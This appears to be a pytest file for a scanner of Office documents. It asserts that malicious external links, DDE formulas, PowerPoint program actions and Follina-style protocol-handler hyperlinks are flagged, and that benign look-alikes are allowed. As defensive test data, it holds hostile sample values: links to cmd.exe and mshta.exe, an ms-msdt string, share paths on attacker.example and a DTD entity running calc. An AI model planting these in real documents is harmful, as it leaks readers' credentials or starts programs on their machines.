    # a task pane shown when the document opens, from a catalog on a share: Office reads the
    # share for its manifest, sending it the reader's Windows credentials
    extension = (
        f'{XML}<we:webextension xmlns:we="{WE}" id="{{6C1E6A6B-2B5F-4B5E-9C11-6F1B2D6A8A01}}">'
        f'<we:reference id="{{D5B4F1D6-7E2B-4A7D-8B1F-2C2E4B7C9A10}}" version="1.0.0.0" '
        f'store="{store}" storeType="{store_type}"/></we:webextension>'
    )
    part = "word/webextensions/webextension1.xml"
    rels = [("http://schemas.microsoft.com/office/2011/relationships/webextension",
             "webextensions/webextension1.xml", False)]  # fmt: skip
    report = analyse_package(docx(rels=rels, parts={part: extension}))
    assert threats(report) == ([(OpcKind.EXTERNAL_LINK, part, "add-in")] if flagged else [])


def test_internal_relationship_with_a_url_target_counts_as_external() -> None:
    report = analyse_package(docx(rels=[("image", "https://attacker.example/a.png", False)]))
    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "image")]


@pytest.mark.parametrize(
    ("rel_type", "target"),
    [
        ("hyperlink", "https://shop.example/orders/4711"),
        ("hyperlink", "mailto:orders@shop.example"),
        ("attachedTemplate", "file:///C:\\Users\\me\\Custom%20Office%20Templates\\Letter.dotx"),
        ("externalLinkPath", "Book2.xlsx"),
        # "Link to file" pictures on the author's disk (python-docx's and xlrd's real samples)
        ("image", "file://localhost/Users/scanny/Pictures/monty-truth.png"),
        ("image", "C:\\Users\\me\\Pictures\\logo.png"),
    ],
)
def test_external_relationships_that_stay_allowed(rel_type: str, target: str) -> None:
    assert analyse_package(docx(rels=[(rel_type, target, True)])).problems == ()


def test_a_mac_link_to_a_local_file_is_no_share() -> None:
    # PowerPoint for Mac writes a link to a file on the Mac as file:////Users/... (python-pptx's
    # real act-props.pptm)
    target = "file:////Users/scanny/Documents/notes.key"
    assert analyse_package(docx(rels=[("hyperlink", target, True)])).problems == ()
    shared = "file:////fileserver/Users/notes.key"
    assert threats(analyse_package(docx(rels=[("hyperlink", shared, True)]))) == [
        (OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "hyperlink")
    ]


@pytest.mark.parametrize(
    ("target", "expected"),
    [("file:///C:/Windows/System32/cmd.exe", ["hyperlink"]),
     ("C:\\Windows\\System32\\mshta.exe", ["hyperlink"]),
     ("tools/setup.bat", ["hyperlink"]),
     ("..\\..\\AppData\\evil.lnk", ["hyperlink"]),
     ("file:///C:/Windows/System32/calc.exe%00.pdf", ["hyperlink"]),
     ("C:\\Users\\me\\notes.pdf", []),
     ("report.html#part2", []),
     ("https://example.com/setup.exe", [])],
    ids=["file-url", "drive", "beside", "climbs", "nul", "document", "page", "web"],
)  # fmt: skip
def test_a_hyperlink_to_a_local_program(target: str, expected: list[str]) -> None:
    """A click starts it after Office's notice (red team 106: cmd.exe, mshta.exe in .docx,
    .xlsx and a deck's ``ppaction://hlinkfile``), as a PDF's link to one is PDF_LAUNCH; a
    document, a page or a download from the web is a link like any."""
    report = analyse_package(docx(rels=[("hyperlink", target, True)]))
    assert [p.label for p in report.problems if p.kind == OpcKind.EXTERNAL_LINK] == expected
    if expected:
        assert "a program on the reader's own computer" in report.problems[0].message


# -- PowerPoint actions --------------------------------------------------------------------------


def action(element: str, verb: str, rel: str = "") -> str:
    return f'<a:{element} r:id="{rel}" action="{verb}"/>'


@pytest.mark.parametrize(
    ("shape", "message"),
    [
        (action("hlinkHover", "ppaction://program", "rId2"),
         "a PowerPoint action that starts a program when the pointer moves over it"),
        (action("hlinkClick", "ppaction://program", "rId2"),
         "a PowerPoint action that starts a program on click"),
        (action("hlinkClick", "ppaction://macro?name=Module1.Run"),
         "a PowerPoint action that runs a macro on click"),
        (action("hlinkHover", "PPAction://OLE?verb=0"),
         "a PowerPoint action that runs an embedded object when the pointer moves over it"),
        (action("hlinkClick", "ppaction://somethingnew"),
         "a PowerPoint action of an unknown kind on click"),
        (action("hlinkHover", "", "rId2"),
         "a link outside the file that opens when the pointer moves over it"),
    ],
    ids=["program-hover", "program-click", "macro", "ole", "unknown", "hover-link"],
)  # fmt: skip
def test_actions_that_run_something(shape: str, message: str) -> None:
    rels = [("hyperlink", "file:///C:/Users/me/notes.pdf", True)]
    report = analyse_package(pptx(shape, rels))
    assert [(p.kind, p.location) for p in report.problems] == [
        (OpcKind.ACTION, "ppt/slides/slide1.xml")
    ]
    assert report.problems[0].message == message


@pytest.mark.parametrize(
    "shape",
    [
        action("hlinkClick", "ppaction://hlinkshowjump?jump=nextslide"),
        action("hlinkHover", "ppaction://hlinkshowjump?jump=nextslide"),
        action("hlinkClick", "ppaction://hlinksldjump", "rId3"),
        action("hlinkClick", "ppaction://noaction"),
        action("hlinkClick", "", "rId2"),
    ],
    ids=["show-jump", "show-jump-hover", "slide-jump", "noaction", "hyperlink-click"],
)
def test_actions_that_stay_allowed(shape: str) -> None:
    rels = [("hyperlink", "https://shop.example/track", True),
            ("slide", "slide1.xml", False)]  # fmt: skip
    assert analyse_package(pptx(shape, rels)).problems == ()


# -- embedded objects ----------------------------------------------------------------------------


def chart(rel_type: str = "package", target: str = "../embeddings/Microsoft_Excel_Worksheet.xlsx"
          ) -> tuple[Parts, dict[str, str]]:  # fmt: skip
    """A chart part whose data is the embedded workbook ``target``, as Office stores it."""
    space = (
        f'{XML}<c:chartSpace xmlns:c="{C}" xmlns:a="{A}" xmlns:r="{R}"><c:chart><c:plotArea>'
        "<c:barChart><c:ser><c:val><c:numRef><c:f>Sheet1!$B$2:$B$5</c:f></c:numRef></c:val>"
        '</c:ser></c:barChart></c:plotArea></c:chart><c:externalData r:id="rId1">'
        '<c:autoUpdate val="0"/></c:externalData></c:chartSpace>'
    )
    parts: Parts = {
        "ppt/charts/chart1.xml": space,
        "ppt/charts/_rels/chart1.xml.rels": rels_xml([(rel_type, target, False)]),
        "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
    }
    types = {
        "ppt/charts/chart1.xml": f"{OOXML}drawingml.chart+xml",
        "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": f"{OOXML}spreadsheetml.sheet",
    }
    return parts, types


def test_chart_workbook_is_content_to_scan_not_a_problem() -> None:
    parts, overrides = chart()
    data = pptx(rels=[("chart", "../charts/chart1.xml", False)], parts=parts,
                overrides=overrides)  # fmt: skip
    report = analyse_package(data)
    assert report.problems == ()
    name = "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx"
    assert [(e.name, e.kind) for e in report.embedded] == [(name, EmbeddedKind.PACKAGE)]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert report.embedded[0].data == archive.read(name)


def test_dde_in_a_chart_series_formula() -> None:
    parts, overrides = chart()
    chart_part = str(parts["ppt/charts/chart1.xml"]).replace("Sheet1!$B$2:$B$5", COMMAND)
    parts = {**parts, "ppt/charts/chart1.xml": chart_part}
    data = pptx(rels=[("chart", "../charts/chart1.xml", False)], parts=parts, overrides=overrides)
    assert threats(analyse_package(data)) == [(OpcKind.DDE, "ppt/charts/chart1.xml", "formula")]


_C15 = "http://schemas.microsoft.com/office/drawing/2012/chart"


@pytest.mark.parametrize(
    ("extension", "found"),
    [
        (
            "<c15:datalabelsRange><c15:f>'\\\\host\\s\\[P.xlsx]S'!$A$1:$A$3</c15:f>"
            "</c15:datalabelsRange>",
            [(OpcKind.EXTERNAL_LINK, "ppt/charts/chart1.xml", "formula")],
        ),
        (
            "<c15:fullRef><c15:sqref>'\\\\host\\s\\[P.xlsx]S'!$B$2:$B$5</c15:sqref></c15:fullRef>",
            [(OpcKind.EXTERNAL_LINK, "ppt/charts/chart1.xml", "formula")],
        ),
        ("<c15:datalabelsRange><c15:f>Sheet1!$A$1:$A$3</c15:f></c15:datalabelsRange>", []),
    ],
    ids=["label-range-on-a-share", "full-reference-on-a-share", "label-range-in-the-book"],
)
def test_chart_extension_formulas_are_read(extension: str, found: list[object]) -> None:
    # Excel 2013's chart extensions (c15:) hold references as c:f does: one naming a workbook
    # on a share makes Excel open it
    parts, overrides = chart()
    ext = (f'<c:extLst><c:ext uri="{{02D57815-91ED-43cb-92C2-25804820EDAC}}" '
           f'xmlns:c15="{_C15}">{extension}</c:ext></c:extLst></c:ser>')  # fmt: skip
    chart_part = str(parts["ppt/charts/chart1.xml"]).replace("</c:ser>", ext)
    parts = {**parts, "ppt/charts/chart1.xml": chart_part}
    data = pptx(rels=[("chart", "../charts/chart1.xml", False)], parts=parts, overrides=overrides)
    assert threats(analyse_package(data)) == found


_PAGE_SHARE = "\\\\attacker.example\\s\\logo.png"


def _chunk(page: bytes, content_type: str = "text/html", name: str = "afchunk1.htm") -> bytes:
    """A letter that imports ``page`` (typed ``content_type``) as an alternative format chunk."""
    return docx(
        '<w:altChunk r:id="rId4"/>',
        rels=[("aFChunk", name, False)],
        parts={f"word/{name}": page},
        overrides={f"word/{name}": content_type},
    )


_CHUNK_LINK = [(OpcKind.EXTERNAL_LINK, "word/afchunk1.htm", "html")]


@pytest.mark.parametrize(
    ("page", "found"),
    [
        (f'<html><body><img src="{_PAGE_SHARE}"></body></html>'.encode(), _CHUNK_LINK),
        # plain text first: Word imports by the content type, whatever the bytes begin with
        (b"Order notes\r\n" * 100 + f"<p><img src={_PAGE_SHARE}>".encode(), _CHUNK_LINK),
        (b'<p style="background:url(https://tracker.example/p.gif)">Hi</p>', _CHUNK_LINK),
        (b'<style>@import "//attacker.example/s/a.css";</style><p>Hi', _CHUNK_LINK),
        (b'<link rel=stylesheet href="https://cdn.example/a.css"><p>Hi', _CHUNK_LINK),
        (b'<img srcset="a.png 1x, https://tracker.example/b.png 2x">', _CHUNK_LINK),
        (f'<a href="{_PAGE_SHARE}">logo</a>'.encode(), _CHUNK_LINK),
        (b"<img src=&#x5c;&#x5c;attacker.example&#x5c;s&#x5c;x.png>", _CHUNK_LINK),
        # Word's own markup: pictures in conditional comments, VML
        (b'<!--[if gte vml 1]><v:imagedata src="https://tracker.example/p.png"/><![endif]-->',
         _CHUNK_LINK),
        (b'<p><v:fill o:href="https://tracker.example/p.png"></v:fill></p>', _CHUNK_LINK),
        # a raw-text element ended as HTML5 ends it, not as Python 3.11's tokenizer does
        (b"<style>p{}</style x><img src=https://tracker.example/p.png>", _CHUNK_LINK),
        # UTF-16 without a byte-order mark (a meta charset says so)
        ('<meta charset="utf-16"><img src="https://tracker.example/p.png">'.encode("utf-16-le"),
         _CHUNK_LINK),
        # what Word does not fetch: links to the web, pictures beside it or inline
        (b'<p><a href="https://shop.example/track">Track</a><img src="logo.png">'
         b'<img src="data:image/png;base64,iVBORw0KGgo="><br></p>', []),
        (b"<p>unclosed <b>tags & an <unknown> element", []),
    ],
    ids=["img-share", "text-first", "style-url", "import", "link", "srcset", "a-share",
         "references", "conditional-comment", "vml", "style-end-tag", "utf-16",
         "benign", "not-well-formed"],
)  # fmt: skip
def test_web_pages_word_imports_are_read_as_html(page: bytes, found: list[object]) -> None:
    assert threats(analyse_package(_chunk(page))) == found


@pytest.mark.parametrize(
    ("page", "kind"),
    [
        (b'<object classid="clsid:8856F961-340A-11D0-A96B-00C04FD705A2"></object>',
         OpcKind.ACTIVEX),
        (b'<link rel=Edit-Time-Data href="editdata.mso"><p>Hi', OpcKind.VBA),
    ],
    ids=["activex", "macros"],
)  # fmt: skip
def test_what_word_instantiates_from_a_page_it_imports(page: bytes, kind: OpcKind) -> None:
    # its scripts Word does not run (a page with one is approved: the export test above)
    assert threats(analyse_package(_chunk(page))) == [(kind, "word/afchunk1.htm", "html")]


def _archive(*parts: tuple[str, str]) -> bytes:
    """A web archive of ``parts`` (headers, body), as Word and html-docx-js write one."""
    body = "".join(f"--b\r\n{headers}\r\n\r\n{text}\r\n" for headers, text in parts)
    head = 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
    return (head + body + "--b--\r\n").encode()


@pytest.mark.parametrize(
    ("parts", "found"),
    [
        # a style sheet part the page links to loads from the web
        ((("Content-Type: text/html", '<link rel=stylesheet href="s.css"><p>Hi'),
          ("Content-Type: text/css\r\nContent-Location: s.css",
           "p{background:url(https://tracker.example/p.png)}")), True),
        # a relative picture no part answers, resolved against a remote location
        ((("Content-Type: text/html\r\nContent-Location: https://tracker.example/d.htm",
           '<img src="logo.png">'),), True),
        # ... and one the archive carries itself
        ((("Content-Type: text/html\r\nContent-Location: https://site.example/d.htm",
           '<img src="logo.png">'),
          ("Content-Type: image/png\r\nContent-Location: https://site.example/logo.png",
           "x")), False),
        ((("Content-Type: text/html\r\nContent-Location: file:///C:/fake/document.html",
           '<img src="logo.png">'),), False),
    ],
    ids=["style-sheet-part", "remote-location", "carried-picture", "local-location"],
)  # fmt: skip
def test_web_archive_parts_and_locations(parts: tuple[tuple[str, str], ...], found: bool) -> None:
    report = analyse_package(_chunk(_archive(*parts), "message/rfc822", "afchunk1.mht"))
    expected = [(OpcKind.EXTERNAL_LINK, "word/afchunk1.mht", "html")] if found else []
    assert threats(report) == expected


def test_a_web_archive_word_imports_is_read_part_by_part() -> None:
    page = f'<html><body><img src=3D"{_PAGE_SHARE}"></body></html>'
    archive = (
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html; charset=utf-8\r\n"
        f"Content-Transfer-Encoding: quoted-printable\r\n\r\n{page}\r\n--b--\r\n"
    ).encode()
    found = threats(analyse_package(_chunk(archive, "message/rfc822", "afchunk1.mht")))
    assert found == [(OpcKind.EXTERNAL_LINK, "word/afchunk1.mht", "html")]


def test_macros_in_an_embedded_package_are_found_when_it_is_scanned() -> None:
    macro_book = xlsx(
        rels=[(f"{MS}vbaProject", "vbaProject.bin", False)],
        parts={"xl/vbaProject.bin": vba_project()},
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    parts = {"word/embeddings/Book.xlsm": macro_book}
    overrides = {"word/embeddings/Book.xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12"}
    rels = [("package", "embeddings/Book.xlsm", False)]
    report = analyse_package(docx(rels=rels, parts=parts, overrides=overrides))
    assert report.problems == ()
    [embedded] = report.embedded
    assert embedded.kind is EmbeddedKind.PACKAGE
    assert analyse_package(embedded.data).vba_parts == ("xl/vbaProject.bin",)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (ole_file({"\x01Ole10Native": ole_native("invoice.exe", b"MZ")}), EmbeddedKind.OLE),
        (b"just some bytes", EmbeddedKind.FILE),
    ],
    ids=["ole-package", "other"],
)
def test_embedded_objects_are_classified_by_their_bytes(data: bytes, kind: EmbeddedKind) -> None:
    parts = {"word/embeddings/oleObject1.bin": data}
    overrides = {"word/embeddings/oleObject1.bin": f"{OOXML}oleObject"}
    rels = [("oleObject", "embeddings/oleObject1.bin", False)]
    report = analyse_package(docx(rels=rels, parts=parts, overrides=overrides))
    assert report.problems == ()
    assert report.embedded == (
        Embedded("word/embeddings/oleObject1.bin", f"{OOXML}oleobject", kind, data),
    )


# -- ambiguity and damage ------------------------------------------------------------------------


DOCTYPE = "<!DOCTYPE worksheet [<!ENTITY cmd \"cmd|'/c calc'!A1\">]>"


@pytest.mark.parametrize(
    ("where", "build"),
    [
        ("xl/worksheets/sheet1.xml",
         lambda: xlsx(formula_sheet("&cmd;").replace("\n", "\n" + DOCTYPE))),
        ("xl/_rels/workbook.xml.rels",
         lambda: package({"_rels/.rels": root_rels("xl/workbook.xml"),
                          "xl/workbook.xml": f'{XML}<workbook xmlns="{S}"/>',
                          "xl/_rels/workbook.xml.rels": XML + "<!DOCTYPE x>" +
                          rels_xml([]).decode().split("?>", 1)[1]}, {})),
        ("[Content_Types].xml",
         lambda: rewrite(xlsx(), "[Content_Types].xml",
                         lambda xml: xml.replace(b"<Types ", b"<!DOCTYPE Types><Types ", 1))),
    ],
    ids=["sheet", "relationships", "content-types"],
)  # fmt: skip
def test_dtd_makes_a_part_ambiguous(where: str, build: Callable[[], bytes]) -> None:
    report = analyse_package(build())
    ambiguous = [p for p in report.problems if p.kind is OpcKind.AMBIGUOUS]
    assert [p.location for p in ambiguous] == [where]
    assert "DTD" in ambiguous[0].message


def test_xml_encoding_office_refuses_is_ambiguous() -> None:
    sheet = formula_sheet("A1").replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    report = analyse_package(xlsx(sheet))
    assert threats(report) == [(OpcKind.AMBIGUOUS, "xl/worksheets/sheet1.xml", "")]


def test_xml_that_does_not_parse_is_damaged() -> None:
    report = analyse_package(xlsx(worksheet("<c r='A1'><v>1</c>")))
    assert threats(report) == [(OpcKind.DAMAGED, "xl/worksheets/sheet1.xml", "")]


def test_vml_drawing_as_excel_writes_it_is_not_damaged() -> None:
    # Excel writes comment boxes with unclosed <br> tags; Office reads VML leniently
    vml = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>'
        "<font>Alice:</font><br><font>check the total</font></div></v:textbox></v:shape></xml>"
    )
    parts: Parts = {
        "xl/drawings/vmlDrawing1.vml": vml,
        "xl/worksheets/_rels/sheet1.xml.rels": rels_xml(
            [("vmlDrawing", "../drawings/vmlDrawing1.vml", False)]
        ),
    }
    vml_type = f"{OOXML}vmlDrawing"
    report = analyse_package(xlsx(worksheet(), parts=parts, overrides={
        "xl/drawings/vmlDrawing1.vml": vml_type}))  # fmt: skip
    assert report.problems == ()


def test_two_entries_for_one_part_are_ambiguous() -> None:
    data = xlsx(parts={"XL/Worksheets/Sheet1.xml": formula_sheet(COMMAND)})
    assert (OpcKind.AMBIGUOUS, "XL/Worksheets/Sheet1.xml", "duplicate") in threats(
        analyse_package(data)
    )


def test_interleaved_pieces_are_ambiguous() -> None:
    parts: Parts = {"xl/worksheets/sheet2.xml/[0].piece": "<worksheet",
                    "xl/worksheets/sheet2.xml/[1].last.piece": "/>"}  # fmt: skip
    report = analyse_package(xlsx(parts=parts))
    assert threats(report) == [(OpcKind.AMBIGUOUS, "xl/worksheets/sheet2.xml/[0].piece", "piece")]


def test_conflicting_content_types_are_ambiguous() -> None:
    data = xlsx(overrides={"XL/WORKSHEETS/SHEET1.XML": "application/vnd.ms-excel.macrosheet+xml"})
    kinds = [p.kind for p in analyse_package(data).problems]
    assert OpcKind.AMBIGUOUS in kinds


def test_package_without_content_types_or_relationships_is_damaged() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{W}"/>')
    report = analyse_package(out.getvalue())
    assert [(p.kind, p.message) for p in report.problems if not p.kind.info] == [
        (OpcKind.DAMAGED, "no [Content_Types].xml: not an OPC package"),
        (OpcKind.DAMAGED, "no package relationships (_rels/.rels)"),
    ]


def test_missing_target_and_missing_content_type_are_information() -> None:
    rels = [("image", "media/gone.png", False), ("image", "media/photo.webp", False)]
    report = analyse_package(docx(rels=rels, parts={"word/media/photo.webp": b"RIFF"}))
    assert threats(report) == []
    assert info(report) == [
        (OpcKind.MISSING_PART, "word/_rels/document.xml.rels"),
        (OpcKind.NO_CONTENT_TYPE, "word/media/photo.webp"),
    ]


def test_relationship_count_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opc, "MAX_RELATIONSHIPS", 3)
    report = analyse_package(docx())
    assert (OpcKind.LIMIT, "", "") in threats(report)


def test_deep_nesting_is_read_without_recursion() -> None:
    deep = "<a:g>" * 100_000 + "</a:g>" * 100_000
    part = f'<p:sld xmlns:p="{P}" xmlns:a="{A}">{deep}</p:sld>'.encode()
    assert read_part(part).root == f"{P} sld"


# -- size ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", ["A{i}*2", 'IF(A{i}="a|b",1,0)'], ids=["plain", "pipes"])
def test_five_megabyte_sheet_is_inspected_quickly(formula: str) -> None:
    rows: list[str] = []
    size = 0
    while size < 5_000_000:
        i = len(rows) + 1
        text = formula.format(i=i).replace('"', "&quot;")
        row = f'<row r="{i}"><c r="A{i}" s="1"><v>{i}</v></c><c r="B{i}"><f>{text}</f></c></row>'
        rows.append(row)
        size += len(row)
    data = xlsx(worksheet("".join(rows)))
    start = time.process_time()  # CPU time: other processes on the machine do not count
    report = analyse_package(data)
    assert time.process_time() - start < 9  # a guard against blow-ups, not a benchmark
    assert report.problems == ()


# -- real samples --------------------------------------------------------------------------------


CLEAN = [
    "msodde/harmless-clean.docx", "msodde/harmless-clean.docm", "msodde/dde-test.docx",
    "msodde/dde-test.docm",  # Word DDE fields: for the field analysis, not this reader
    *(f"oleobj/embedded-simple-2007.{ext}" for ext in
      ("docx", "docm", "dotx", "dotm", "pptx", "pptm", "potx", "potm", "ppsx", "ppsm", "xlsx",
       "xlsm", "xlsb", "xltx", "xltm", "xlam")),
    "oleobj/embedded-unicode-2007.docx",
]  # fmt: skip
EXPECTED = {
    "excel4-macros/excel4_sample_macro.xlsm": [(OpcKind.XLM, "xl/macrosheets/sheet1.xml", "")],
    "excel4-macros/excel4_sample_macro.xltm": [(OpcKind.XLM, "xl/macrosheets/sheet1.xml", "")],
    "excel4-macros/excel4_sample_macro.xlsb": [(OpcKind.XLM, "xl/macrosheets/sheet1.bin", "")],
    "msodde/dde-test.xlsx": [(OpcKind.DDE, "xl/externalLinks/externalLink1.xml", "ddeLink")],
    "msodde/dde-test.xlsm": [(OpcKind.DDE, "xl/externalLinks/externalLink1.xml", "ddeLink")],
    "oleform/oleform-PR314.docm": [(OpcKind.VBA, "word/vbaProject.bin", "")],
    "oleobj/external_link/sample_with_external_link_to_doc.docx": [
        (OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "oleObject")],
    "oleobj/external_link/sample_with_external_link_to_doc.pptx": [
        (OpcKind.EXTERNAL_LINK, "ppt/slides/_rels/slide1.xml.rels", "oleObject")],
    "oleobj/external_link/sample_with_external_link_to_doc.xlsx": [
        (OpcKind.EXTERNAL_LINK, "xl/externalLinks/_rels/externalLink1.xml.rels", "oleObject"),
        (OpcKind.DDE, "xl/externalLinks/externalLink1.xml", "oleLink")],
}  # fmt: skip


@pytest.mark.parametrize("path", CLEAN)
def test_real_benign_documents(path: str, oletools_data: Path) -> None:
    report = analyse_package(read_sample(oletools_data, path))
    assert report.problems == ()
    if "embedded" in path:  # an embedded OLE object, for the caller's OLE inspection
        assert [e.kind for e in report.embedded] == [EmbeddedKind.OLE]
    if path.endswith(("docx", "docm")):
        assert "word/document.xml" in report.word_parts


@pytest.mark.parametrize("path", list(EXPECTED))
def test_real_documents_with_active_content(path: str, oletools_data: Path) -> None:
    report = analyse_package(read_sample(oletools_data, path))
    assert threats(report) == EXPECTED[path]
    assert all(isinstance(p, OpcProblem) and p.message for p in report.problems)


# -- the red team's evasions (tests/support/evasions.py) -----------------------------------------


EVASIONS = [
    case for case in CASES if case.cls in ("external-rels", "pptx-actions", "xlsx-formulas")
]


@pytest.mark.parametrize("case", EVASIONS, ids=[case.id for case in EVASIONS])
def test_red_team_evasions_and_their_look_alikes(case: Case) -> None:
    """Hostile cases give a problem that is not informational; benign look-alikes none."""
    report = analyse_package(case.build())
    assert bool(threats(report)) is case.hostile


@pytest.mark.parametrize(
    "target",
    [
        "ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;",
        "ms-officecmd:{&quot;id&quot;:3}",
        "ms-appinstaller:?source=https://attacker.example/x.appinstaller",
        "search-ms:query=x&amp;subquery=%5C%5Cattacker.example%5Cs%5Cx.search-ms",
        "search-ms:query=x&amp;crumb=location%253A%255C%255Cattacker.example%255Cs",  # twice
        "search-ms:query=x&amp;crumb=location:%20%5C%5Cattacker.example%5Cs",  # a blank first
        "search-ms:query=x&amp;crumb=location:https://attacker.example/dav",  # WebDAV
        "hcp://services/search?query=x",
    ],
    ids=[
        "ms-msdt",
        "ms-officecmd",
        "ms-appinstaller",
        "saved search",
        "escaped twice",
        "blank before",
        "web folder",
        "hcp",
    ],
)
def test_a_hyperlink_to_a_protocol_handler_that_starts_a_program(target: str) -> None:
    # a red team's Follina-style and App Installer links, and searches that read a saved search
    # or a folder on a share, were approved as plain hyperlinks
    report = analyse_package(docx(rels=[("hyperlink", target, True)]))
    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "hyperlink")]


def test_a_hyperlink_to_a_local_search_is_allowed() -> None:
    target = "search-ms:query=invoice&amp;crumb=location:C%3A%5CUsers%5Cme%5CDocuments"
    assert threats(analyse_package(docx(rels=[("hyperlink", target, True)]))) == []


@pytest.mark.parametrize(
    ("destination", "auto", "flagged"),
    [
        ("\\\\attacker.example\\share\\report.htm", "1", True),
        ("file://attacker.example/share/report.htm", "true", True),
        ("https://attacker.example/dav/report.htm", "1", True),
        ("\\\\attacker.example\\share\\report.htm", "0", False),  # only when asked to publish
        ("C:\\Users\\me\\Documents\\report.htm", "1", False),
    ],
)
def test_a_workbook_republished_to_another_machine_on_save(
    destination: str, auto: str, flagged: bool
) -> None:
    # Excel writes the page to destinationFile whenever the workbook is saved (autoRepublish):
    # to a share, that sends the reader's Windows credentials there
    publish = (
        f'<webPublishObjects count="1"><webPublishObject id="1" divId="Book_1" '
        f'destinationFile="{destination}" autoRepublish="{auto}"/></webPublishObjects>'
    )
    item = (
        f'<webPublishItems count="1"><webPublishItem id="2" divId="Book_2" sourceType="sheet" '
        f'destinationFile="{destination}" autoRepublish="{auto}"/></webPublishItems>'
    )
    expected = [(OpcKind.EXTERNAL_LINK, "xl/workbook.xml", "web publishing")] if flagged else []
    assert threats(analyse_package(xlsx(names=publish))) == expected
    expected = (
        [(OpcKind.EXTERNAL_LINK, "xl/worksheets/sheet1.xml", "web publishing")] if flagged else []
    )
    sheet = worksheet().replace("</worksheet>", f"{item}</worksheet>")
    assert threats(analyse_package(xlsx(sheet))) == expected


# -- links to the reader's own files that Office writes for honest documents ---------------------


@pytest.mark.parametrize(
    ("target", "flagged"),
    [
        ("file:///C:\\Users\\me\\Documents\\Sales.xlsb", False),
        ("C:\\Users\\me\\Documents\\Sales.xlsx", False),
        ("..\\..\\Sales.xlsx", True),  # read from wherever the reader saved the attachment
        ("\\\\fileserver\\share\\Sales.xlsx", True),
        ("https://attacker.example/Sales.xlsx", True),
    ],
)
def test_a_charts_data_linked_to_a_workbook_on_a_local_drive(target: str, flagged: bool) -> None:
    # Word and PowerPoint's "paste chart, link data" (Apache Tika's testWORD_charts.docx): the
    # chart's data is an OLE link to the workbook's path on the author's disk, as a formula's
    # link to another workbook is
    parts, overrides = chart()
    parts = {**parts, "ppt/charts/_rels/chart1.xml.rels": rels_xml([("oleObject", target, True)])}
    data = pptx(rels=[("chart", "../charts/chart1.xml", False)], parts=parts, overrides=overrides)
    found = [(OpcKind.EXTERNAL_LINK, "ppt/charts/_rels/chart1.xml.rels", "oleObject")]
    assert threats(analyse_package(data)) == (found if flagged else [])


def test_an_ole_link_to_a_local_file_from_any_other_part_is_flagged() -> None:
    # a linked object in the document itself: Office starts the file's program to update it
    rels = [("oleObject", "file:///C:\\Windows\\System32\\calc.exe", True)]
    found = [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "oleObject")]
    assert threats(analyse_package(docx(rels=rels))) == found


def linked_worksheet_slide() -> str:
    """A slide holding a pasted Excel range as PowerPoint 2010 writes "Paste Special > Paste
    link" (Apache POI's bug54570.pptx): a graphic frame's OLE object, its ``p:link`` updating
    automatically (PowerPoint asks first), the workbook named by relationship rId2."""
    spaces = f'xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"'
    ole = "http://schemas.openxmlformats.org/presentationml/2006/ole"
    return (
        f'{XML}<p:sld {spaces}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
        "<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:graphicFrame><p:nvGraphicFramePr>"
        '<p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr><a:graphicFrameLocks '
        'noChangeAspect="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr><p:xfrm>'
        '<a:off x="457200" y="1600200"/><a:ext cx="8229600" cy="4525963"/></p:xfrm><a:graphic>'
        f'<a:graphicData uri="{ole}"><p:oleObj name="Worksheet" r:id="rId2" imgW="12001554" '
        'imgH="7711450" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj>'
        "</a:graphicData></a:graphic></p:graphicFrame></p:spTree></p:cSld></p:sld>"
    )


@pytest.mark.parametrize(
    ("target", "flagged"),
    [
        ("file:///E:\\project\\poi\\poi\\external.xlsx", False),
        ("C:\\Users\\me\\Documents\\Budget 2012.xls", False),
        ("file:///C:/Users/me/Documents/Forecast.xlsm", False),
        ("..\\..\\Budget.xlsx", True),  # read from wherever the reader saved the attachment
        ("\\\\fileserver\\finance\\Budget.xlsx", True),
        ("file://fileserver/finance/Budget.xlsx", True),
        ("https://attacker.example/Budget.xlsx", True),
        ("C:\\Users\\Public\\run.hta:range.xlsx", True),  # a program, its stream named so
        ("file:///C:/Users/Public/run.exe%00.xlsx", True),  # a program, up to the NUL
        ("C:\\Users\\me\\Documents\\Notes.docx", True),  # no workbook: Word starts to update it
    ],
)
def test_a_pasted_range_linked_to_a_workbook_on_a_local_drive(target: str, flagged: bool) -> None:
    # "Paste link" of an Excel range: an OLE link to the workbook's path on the author's disk, as
    # a chart's linked data and a formula's link to another workbook are; a share, a URL, a
    # climbing path or a program stays EXTERNAL_LINK
    parts = {"ppt/slides/slide1.xml": linked_worksheet_slide()}
    data = pptx(rels=[("oleObject", target, True)], parts=parts)
    found = [(OpcKind.EXTERNAL_LINK, "ppt/slides/_rels/slide1.xml.rels", "oleObject")]
    assert threats(analyse_package(data)) == (found if flagged else [])
